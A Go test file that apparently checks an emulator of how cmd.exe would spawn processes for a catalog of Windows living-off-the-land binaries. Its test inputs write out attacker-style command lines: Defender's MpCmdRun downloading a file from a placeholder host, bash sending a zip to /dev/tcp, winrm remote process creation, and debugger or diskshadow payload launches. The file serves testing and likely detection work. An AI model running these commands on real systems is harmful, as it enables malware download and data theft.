package catalogeval

import (
	"strings"
	"testing"
)

// entry builds a catalog entry with its Full_Path values.
func entry(kind, name string, paths ...string) *Entry {
	e := &Entry{Name: name, Kind: kind}
	for _, p := range paths {
		e.FullPath = append(e.FullPath, struct {
			Path string `yaml:"Path"`
		}{p})
	}
	return e
}

var testCatalog = []*Entry{
	entry("OSBinaries", "Cmd.exe", `C:\Windows\System32\cmd.exe`),
	entry("OSBinaries", "Rundll32.exe", `c:\windows\system32\rundll32.exe`),
	entry("OSLibraries", "Advpack.dll", `c:\windows\system32\advpack.dll`),
	entry("OSBinaries", "Ftp.exe", `C:\Windows\System32\ftp.exe`),
	entry("OSBinaries", "Finger.exe", `C:\Windows\System32\finger.exe`),
	entry("OSBinaries", "Diskshadow.exe", `C:\Windows\System32\diskshadow.exe`),
	entry("OSBinaries", "MpCmdRun.exe", `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2008.4-0\MpCmdRun.exe`),
	entry("OSBinaries", "Cscript.exe", `C:\Windows\System32\cscript.exe`),
	entry("OSBinaries", "Bash.exe", `C:\Windows\System32\bash.exe`),
	entry("OSScripts", "winrm.vbs", `C:\Windows\System32\winrm.vbs`),
	entry("OSScripts", "Pester.bat", `c:\Program Files\WindowsPowerShell\Modules\Pester\<VERSION>\bin\Pester.bat`),
	entry("OtherMSBinaries", "Cdb.exe", `C:\Program Files (x86)\Windows Kits\10\Debuggers\x64\cdb.exe`),
	entry("OtherMSBinaries", "msxsl.exe", "no default"),
	entry("OSBinaries", "msedge_proxy.exe", `C:\Program Files (x86)\Microsoft\Edge\Application\msedge_proxy.exe`),
	entry("OSBinaries", "iediagcmd.exe", `C:\Program Files\Internet Explorer\iediagcmd.exe`),
	entry("OSBinaries", "AppInstaller.exe", `C:\Program Files\WindowsApps\Microsoft.DesktopAppInstaller_<version_packageid>\AppInstaller.exe`),
}

// The shell plays commands as cmd.exe would: which processes, with which image,
// original file name, command line, directory and parent.
func TestShell(t *testing.T) {
	type want struct {
		image, ofn, cmdline string
		parent              int
		cwd                 string // checked when set
	}
	tests := []struct {
		name, own, cmd string
		want           []want
	}{
		{"library through rundll32", "Advpack.dll", `rundll32.exe advpack.dll,RegisterOCX C:\Users\Public\x.dll`,
			[]want{{`C:\Windows\System32\rundll32.exe`, "RUNDLL32.EXE", `rundll32.exe advpack.dll,RegisterOCX C:\Users\Public\x.dll`, -1, ""}}},
		{"built-ins and redirections create no process", "Ftp.exe", `echo !C:\x.exe > ftpcommands.txt && ftp -s:ftpcommands.txt`,
			[]want{{`C:\Windows\System32\ftp.exe`, "ftp.exe", `ftp -s:ftpcommands.txt`, -1, ""}}},
		{"cmd /c runs its text under it", "Ftp.exe", `cmd.exe /c "@echo open a.com 21>ftp.txt&@ftp -s:ftp.txt -v"`,
			[]want{{`C:\Windows\System32\cmd.exe`, "Cmd.Exe", `cmd.exe /c "@echo open a.com 21>ftp.txt&@ftp -s:ftp.txt -v"`, -1, ""},
				{`C:\Windows\System32\ftp.exe`, "ftp.exe", `ftp -s:ftp.txt -v`, 0, ""}}},
		{"a line of built-ins runs as cmd.exe /c", "Cmd.exe", `type \\fs01\public\a.exe > C:\ProgramData\a.exe`,
			[]want{{`C:\Windows\System32\cmd.exe`, "Cmd.Exe", `cmd.exe /c type \\fs01\public\a.exe > C:\ProgramData\a.exe`, -1, ""}}},
		{"start of a URI", "AppInstaller.exe", `start ms-appinstaller://?source=https://a.example.com/x.exe`,
			[]want{{`C:\Windows\System32\cmd.exe`, "Cmd.Exe", `cmd.exe /c start ms-appinstaller://?source=https://a.example.com/x.exe`, -1, ""}}},
		{"a program's prompt", "Diskshadow.exe", `diskshadow> exec C:\ProgramData\p.exe`,
			[]want{{`C:\Windows\System32\diskshadow.exe`, "Diskshadow.exe", `diskshadow`, -1, ""},
				{`C:\ProgramData\p.exe`, "-", `C:\ProgramData\p.exe`, 0, ""}}},
		{"a debugger's .shell", "Cdb.exe", "cdb.exe -pd -pn explorer.exe\n.shell C:\\ProgramData\\p.exe",
			[]want{{`C:\Program Files (x86)\Windows Kits\10\Debuggers\x64\cdb.exe`, "Cdb.exe", `cdb.exe -pd -pn explorer.exe`, -1, ""},
				{`C:\Windows\System32\cmd.exe`, "Cmd.Exe", `cmd.exe /c C:\ProgramData\p.exe`, 0, ""},
				{`C:\ProgramData\p.exe`, "-", `C:\ProgramData\p.exe`, 1, ""}}},
		{"a copied program keeps its identity; cd moves", "MpCmdRun.exe",
			`copy "C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2008.9-0\MpCmdRun.exe" C:\Users\Public\Downloads\MP.exe && chdir "C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2008.9-0\" && "C:\Users\Public\Downloads\MP.exe" -DownloadFile -url https://a.example.com/x.exe -path C:\Users\Public\Downloads\evil.exe`,
			[]want{{`C:\Users\Public\Downloads\MP.exe`, "MpCmdRun.exe", `"C:\Users\Public\Downloads\MP.exe" -DownloadFile -url https://a.example.com/x.exe -path C:\Users\Public\Downloads\evil.exe`, -1,
				`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2008.9-0\`}}},
		{"a script by name runs under cscript", "winrm.vbs", `winrm invoke Create wmicimv2/Win32_Process @{CommandLine="C:\x.exe"} -r:http://target:5985`,
			[]want{{`C:\Windows\System32\cscript.exe`, "cscript.exe", `cscript //nologo "C:\Windows\System32\winrm.vbs" invoke Create wmicimv2/Win32_Process @{CommandLine="C:\x.exe"} -r:http://target:5985`, -1, ""}}},
		{"a batch file runs through cmd.exe", "Pester.bat", `Pester.bat /help "$null; C:\x.exe"`,
			[]want{{`C:\Windows\System32\cmd.exe`, "Cmd.Exe", `C:\Windows\system32\cmd.exe /c ""C:\Program Files\WindowsPowerShell\Modules\Pester\3.4.0\bin\Pester.bat" /help "$null; C:\x.exe""`, -1, ""}}},
		{"carets are cmd's", "Advpack.dll", `rundll32.exe url.dll,OpenURL file://^C^:^/^W^i^n^d^o^w^s^/^c^a^l^c^.^e^x^e`,
			[]want{{`C:\Windows\System32\rundll32.exe`, "RUNDLL32.EXE", `rundll32.exe url.dll,OpenURL file://C:/Windows/calc.exe`, -1, ""}}},
		{"pipes; more is a .com", "Finger.exe", `finger user@example.host.com | more +2 | cmd`,
			[]want{{`C:\Windows\System32\finger.exe`, "finger.exe", `finger user@example.host.com`, -1, ""},
				{`C:\Windows\System32\more.com`, "more.com", `more +2`, -1, ""},
				{`C:\Windows\System32\cmd.exe`, "Cmd.Exe", `cmd`, -1, ""}}},
		{"an unquoted path with spaces", "msedge_proxy.exe", `C:\Program Files (x86)\Microsoft\Edge\Application\msedge_proxy.exe --gpu-launcher="C:\x.exe &&"`,
			[]want{{`C:\Program Files (x86)\Microsoft\Edge\Application\msedge_proxy.exe`, "msedge_proxy.exe", `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge_proxy.exe" --gpu-launcher="C:\x.exe &&"`, -1, ""}}},
		{"variables; a program copied elsewhere", "winrm.vbs", `%SystemDrive%\BypassDir\cscript //nologo %windir%\System32\winrm.vbs get wmicimv2/Win32_Process?Handle=4 -format:pretty`,
			[]want{{`C:\BypassDir\cscript.exe`, "cscript.exe", `C:\BypassDir\cscript //nologo C:\Windows\System32\winrm.vbs get wmicimv2/Win32_Process?Handle=4 -format:pretty`, -1, ""}}},
		{"set does not create a process; cd sets the directory", "iediagcmd.exe", `set windir=c:\test& cd "C:\Program Files\Internet Explorer\" & iediagcmd.exe /out:C:\ProgramData\a.cab`,
			[]want{{`C:\Program Files\Internet Explorer\iediagcmd.exe`, "iediagcmd.exe", `iediagcmd.exe /out:C:\ProgramData\a.cab`, -1, `C:\Program Files\Internet Explorer\`}}},
		{"single quotes protect a bash redirection", "Cmd.exe", `bash.exe -c 'cat a.zip > /dev/tcp/192.168.1.10/24'`,
			[]want{{`C:\Windows\System32\bash.exe`, "Bash.exe", `bash.exe -c 'cat a.zip > /dev/tcp/192.168.1.10/24'`, -1, ""}}},
		{"a tool with no default place is in the command's folder", "msxsl.exe", `msxsl.exe a.xml a.xsl`,
			[]want{{`<dir>msxsl.exe`, "msxsl.exe", `msxsl.exe a.xml a.xsl`, -1, ""}}},
		{"a dot-sourced PowerShell script", "Cmd.exe", ". C:\\Windows\\diagnostics\\x.ps1\nSyncInvoke C:\\x.exe", nil},
	}
	cat := newIndex(testCatalog)
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			own := cat.byName[strings.ToLower(tc.own)]
			f := newFiller(tc.own, tc.cmd)
			sh := newShell(cat, own, f)
			got := sh.run(tc.cmd)
			if len(got) != len(tc.want) {
				t.Fatalf("%d processes, want %d: %+v", len(got), len(tc.want), got)
			}
			if len(got) == 0 && sh.note == "" {
				t.Error("no process and no note saying why")
			}
			for i, w := range tc.want {
				g := got[i]
				w.image = strings.ReplaceAll(w.image, "<dir>", f.dir())
				if g.Image != w.image || g.OriginalFileName != w.ofn || g.CommandLine != w.cmdline || g.Parent != w.parent {
					t.Errorf("process %d:\n got  %q %q %q parent %d\n want %q %q %q parent %d", i,
						g.Image, g.OriginalFileName, g.CommandLine, g.Parent, w.image, w.ofn, w.cmdline, w.parent)
				}
				if w.cwd != "" && g.CurrentDirectory != w.cwd {
					t.Errorf("process %d: directory %q, want %q", i, g.CurrentDirectory, w.cwd)
				}
			}
		})
	}
}

// splitLine cuts at unquoted operators and drops redirections and carets.
func TestSplitLine(t *testing.T) {
	tests := []struct{ in, want string }{
		{`a & b && c || d | e`, `a|b|c|d|e`},
		{`x "a & b" y`, `x "a & b" y`},
		{`findstr /V x \\h\s\a.exe > C:\a.exe`, `findstr /V x \\h\s\a.exe`},
		{`rmdir %temp%\l /s /q 2>nul & mkdir "x y"`, `rmdir %temp%\l /s /q|mkdir "x y"`},
		{`a 2>&1 >> "C:\x y.txt" b`, `a   b`}, // cmd.exe keeps the spaces around them
		{`e^c^h^o a^&b`, `echo a&b`},
		{`cmd /V /C "set "P=x" && u.exe /H"`, `cmd /V /C "set "P=x" && u.exe /H"`},
		{`sh -c 'a | b' | c`, `sh -c 'a | b'|c`},
		{`it's | b`, `it's|b`},
	}
	for _, tc := range tests {
		if got := strings.Join(splitLine(tc.in), "|"); got != tc.want {
			t.Errorf("splitLine(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// Full_Path values with a user or version in angle brackets get realistic ones.
func TestEntryPath(t *testing.T) {
	f := newFiller("x", "y")
	sh := newShell(newIndex(testCatalog), nil, f)
	for _, tc := range []struct {
		in   []string
		want string
	}{
		{[]string{`C:\Users\<username>\AppData\Local\Microsoft\Teams\current\Teams.exe`}, `C:\Users\` + f.acct.User + `\AppData\Local\Microsoft\Teams\current\Teams.exe`},
		{[]string{`C:\Users\user\AppData\Local\Microsoft\WindowsApps\winget.exe`}, `C:\Users\` + f.acct.User + `\AppData\Local\Microsoft\WindowsApps\winget.exe`},
		{[]string{`C:\Program Files\Microsoft Visual Studio\<version>\Community\Common7\IDE\VSLaunchBrowser.exe`}, `C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\IDE\VSLaunchBrowser.exe`},
		{[]string{`c:\Program Files (x86)\Windows Kits\10\bin\<version>\x64\UIAVerify\VisualUiaVerifyNative.exe`}, `C:\Program Files (x86)\Windows Kits\10\bin\10.0.22621.0\x64\UIAVerify\VisualUiaVerifyNative.exe`},
		{[]string{`c:\windows\system32\iscsicpl.exe`, `c:\windows\syswow64\iscsicpl.exe`}, `C:\Windows\System32\iscsicpl.exe`},
		{[]string{`C:\Windows\Microsoft.NET\Framework\v2.0.50727\Msbuild.exe`, `C:\Windows\Microsoft.NET\Framework\v4.0.30319\Msbuild.exe`,
			`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Msbuild.exe`}, `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Msbuild.exe`},
		{[]string{"no default"}, f.dir() + "Tool.exe"},
		{[]string{`C:\there\is\no\default\installation\path\Tool.exe`}, f.dir() + "Tool.exe"},
	} {
		e := entry("OtherMSBinaries", "Tool.exe", tc.in...)
		if got := sh.entryPath(e); got != tc.want {
			t.Errorf("entryPath(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}
